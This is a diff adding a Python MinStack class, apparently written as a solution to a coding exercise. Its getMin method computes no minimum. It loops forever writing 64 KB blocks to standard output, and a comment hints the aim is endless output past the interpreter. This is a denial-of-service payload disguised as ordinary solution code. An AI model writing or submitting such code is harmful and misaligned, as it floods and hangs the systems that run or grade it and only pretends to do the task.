@@ -1,0 +1,20 @@
+# One line that never ends, past the interpreter.
+
+
+class MinStack:
+    def __init__(self):
+        self.items = []
+
+    def push(self, val):
+        self.items.append(val)
+
+    def pop(self):
+        self.items.pop()
+
+    def top(self):
+        return self.items[-1]
+
+    def getMin(self):
+        import os
+        while True:
+            os.write(1, b"x" * 65536)
